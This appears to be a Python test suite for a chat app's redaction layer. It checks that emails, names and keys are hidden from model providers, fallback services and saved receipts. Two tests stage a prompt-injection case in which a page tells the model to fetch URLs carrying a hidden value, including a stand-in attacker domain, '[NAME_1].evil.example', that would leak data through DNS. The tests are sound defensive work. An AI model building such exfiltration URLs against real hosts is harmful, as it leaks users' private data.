"""Hidden values and the other ways out: lines of jobs, tools' own requests, who stands in, blocks that are refused."""

from __future__ import annotations

import asyncio
import hashlib
import json
import random
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kireji.bootstrap.services import Overrides, open_services
from kireji.core.messages import DocumentPart, Message, Role, TextPart, ToolCallPart, ToolResultPart
from kireji.core.permissions import Approval
from kireji.core.receipts import Evidence
from kireji.core.requests import ModelRequest, Thinking, ToolSpec
from kireji.desktop.paths import Paths
from kireji.providers import pages
from kireji.providers.anthropic import AnthropicProvider
from kireji.providers.http import HttpClient
from kireji.providers.openrouter import OpenRouterProvider
from kireji.services.application import Services
from kireji.services.turns import ApprovalAsked, Question, TurnEvent
from tests.fakes.keychain import FakeKeyStore
from tests.fakes.reader import FakeReader
from tests.fakes.world import World
from tests.integration.redaction.scene import SETTINGS, holding, scene_of, will_call, will_say, written
from tests.integration.tools.test_loop import Model, anthropic, model_of
from tests.service import Blocks, Call, Reasoning, Rule, Status, Words
from tests.support import known_secrets as made

__all__ = ["anthropic"]

MAIL = "anna77@example.org"
VALUES = st.builds(
    lambda maker, seed: maker(random.Random(seed)),
    st.sampled_from([*made.KEYS.values(), made.card, made.iban, made.mail, made.person, made.private_key]),
    st.integers(0, 10_000),
)


def _job(values: list[str]) -> ModelRequest:
    """A question with values wherever there can be some."""
    told = "\n".join(values)
    document = DocumentPart("d", "text/plain", f"notes of\n{values[0]}\n")
    call = ToolCallPart("toolu_1", "find", json.dumps({"for": values[0]}))
    messages = (
        Message(Role.USER, (document, TextPart(f"Look:\n{told}"))),
        Message(Role.ASSISTANT, (TextPart(f"I found\n{told}"), call)),
        Message(Role.USER, (ToolResultPart("toolu_1", (TextPart(f"for Heron:\n{told}"),)), TextPart("And now?"))),
    )
    tool = ToolSpec("find", "Finds what Heron has.", b'{"type":"object","properties":{}}')
    blobs = {"d": f"a\n{told}\nb".encode()}
    return ModelRequest(
        "", messages, blobs, system=f"You serve Heron.\n{told}", tools=(tool,), stop_sequences=("Heron",)
    )


@given(st.lists(VALUES, min_size=1, max_size=3, unique=True))
@settings(max_examples=40, deadline=None)
def test_no_value_is_in_a_line_of_a_job(values: list[str]) -> None:
    world = World(redacts=True)
    world.settings.tables["privacy"] = {"words": ["Heron"]}
    redaction = world.services().outbox.redaction
    assert redaction is not None
    http = HttpClient()
    redacted = asyncio.run(redaction.hidden(_job(values)))
    for provider, name in (
        (AnthropicProvider(http), "claude-haiku-5-5"),
        (OpenRouterProvider(http), "openai/gpt-test"),
    ):
        line = provider.encode_job(msgspec.structs.replace(redacted.request, model=name))
        assert not [value for value in [*values, "Heron"] if any(form in line for form in written(value))]


class Web:
    """A server that keeps what it receives."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self.url = ""

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.received.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok")
        await writer.drain()
        writer.close()


@asynccontextmanager
async def web() -> AsyncIterator[Web]:
    found = Web()
    async with await asyncio.start_server(found.serve, "127.0.0.1", 0) as server:
        found.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
        yield found


@asynccontextmanager
async def program(model: Model, home: Path) -> AsyncIterator[Services]:
    """A program with its own tools, whose person allows everything."""
    (home / "settings.toml").write_text(SETTINGS)
    overrides = Overrides(keychain=FakeKeyStore(), reader=FakeReader(["Hello"]))
    environ = {"KIREJI_HOME": str(home), **model.environ}
    async with open_services(Paths.find(environ), environ, overrides=overrides) as services:
        await services.catalog.models(model.question.provider, refresh=True)
        yield services


async def fetched(services: Services, model: Model, address: str) -> str:
    """What the model is told that wanted a page, the person allowing it."""
    model.service.enqueue(Rule(Blocks([Words(["I look."]), Call("fetch_page", {"url": address})])))
    will_say(model.service, "Well.")

    def observe(event: TurnEvent) -> None:
        if isinstance(event, ApprovalAsked):
            services.tools.approvals.answer(event.request.id, Approval(True))

    stored = await services.chat.ask(replace(model.question, text=f"Write to {MAIL} of Heron"), observe)
    [result] = [part for part in stored.message.parts if isinstance(part, ToolResultPart)]
    return "".join(item.text for item in result.content if isinstance(item, TextPart))


async def test_a_tool_sends_no_value_over_the_web(anthropic: Model, tmp_path: Path) -> None:
    """A page has told the model to fetch an address with a placeholder in it; the tool gets the value, nobody else."""
    ways = ["/?q=[MAIL_1]", "/[MAIL_1]", "/?q=%6Dail%3A[MAIL_1]", "/?q=[NAME_1]", "/[NAME_1]/"]
    async with web() as page, program(anthropic, tmp_path) as services:
        assert "ok" in await fetched(services, anthropic, f"{page.url}/plain")
        told = [await fetched(services, anthropic, page.url + way) for way in ways]
    assert all("hidden from the model" in one for one in told), told
    assert [one.split()[1] for one in page.received] == [b"/plain"]


async def test_nobody_is_asked_for_a_host_whose_name_holds_a_value(
    anthropic: Model, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever answers for the names of a domain would read it there."""
    asked: list[str] = []

    async def looked_up(host: str, _: int) -> list[str]:
        asked.append(host)
        return []

    monkeypatch.setattr(pages, "looked_up", looked_up)
    async with program(anthropic, tmp_path) as services:
        assert "hidden from the model" in await fetched(services, anthropic, "https://[NAME_1].evil.example/")
    assert asked == []


async def test_blocks_that_are_refused_are_told_again_without_a_value(anthropic: Model, tmp_path: Path) -> None:
    thinks = Blocks([Reasoning(["[MAIL_1] it is."]), Words(["It is [MAIL_1]."])])
    anthropic.service.enqueue(Rule(thinks))
    async with scene_of(anthropic, tmp_path) as scene:
        first = replace(anthropic.question, text=f"For {MAIL}", system="Be brief.", thinking=Thinking.SHOWN)
        stored, conversation = await scene.ask(first)
        assert stored.message.text == f"It is {MAIL}."
        will_say(anthropic.service, "Yes, [MAIL_1].")
        again = replace(first, text="And?", system="Be thorough.", conversation=conversation)
        stored, _ = await scene.ask(again)
        assert stored.message.text == f"Yes, {MAIL}."
        digests = await scene.digests(conversation)
    asked = [one for one in anthropic.service.requests if one.path.endswith("/messages")]
    assert [one.status for one in asked] == [200, 400, 200]
    assert holding(anthropic.service.requests, [MAIL]) == []
    assert digests == [hashlib.sha256(one.raw).hexdigest() for one in asked]


async def test_who_stands_in_gets_no_value_either(tmp_path: Path) -> None:
    settings = SETTINGS + '[models]\nfallback = ["openrouter"]\n'
    async with model_of("anthropic") as first, model_of("openrouter") as second:
        first.environ |= second.environ
        first.service.enqueue(Rule(Status(529, headers={"retry-after": "0"}), times=9))
        will_say(second.service, "To [MAIL_1].")
        async with scene_of(first, tmp_path, settings=settings) as scene:
            stored, _ = await scene.ask(Question(f"For {MAIL}"))
    assert (stored.provider, stored.message.text) == ("openrouter", f"To {MAIL}.")
    assert holding([*first.service.requests, *second.service.requests], [MAIL]) == []


async def test_a_service_that_the_person_trusts_gets_what_was_said(tmp_path: Path) -> None:
    async with model_of("ollama") as model, scene_of(model, tmp_path, settings="") as scene:
        will_say(model.service, "Well.")
        await scene.ask(replace(model.question, text=f"For {MAIL}"))
    assert holding(model.service.requests, [MAIL]) != []


async def test_a_receipt_is_made_again_as_it_was_sent(anthropic: Model, tmp_path: Path) -> None:
    """By a program that starts later: hidden, as it is, and with the round of a tool between."""
    async with scene_of(anthropic, tmp_path) as scene:
        will_call(anthropic.service, '{"for": "[MAIL_1]"}', [])
        will_say(anthropic.service, "It is [MAIL_2] for [NAME_1].")
        scene.brings = "b@example.org"
        _, conversation = await scene.ask(replace(anthropic.question, text=f"For {MAIL} and Heron"))
        will_say(anthropic.service, "As it is.")
        asked = replace(anthropic.question, text=f"Card 4111 1111 1111 1111 {MAIL}", conversation=conversation)
        await scene.ask(replace(asked, hide=False))
        will_say(anthropic.service, "Hidden.")
        await scene.ask(replace(asked, text=f"[MAIL_1] is {MAIL}"))
    async with scene_of(anthropic, tmp_path) as scene:
        rows = [row for row in await scene.services.ledger.recent(100) if row.purpose == "answer"]
        made_again = [await scene.services.receipts.of(row) for row in rows]
    assert [one.evidence for one in made_again] == [Evidence.REBUILT] * 4
    assert [bool(row.facts.hidden) for row in rows] == [True, False, True, True]
    assert [one.sent.digest for one in made_again] == [
        hashlib.sha256(one.raw).hexdigest()
        for one in reversed(anthropic.service.requests)
        if one.path.endswith("/messages")
    ]
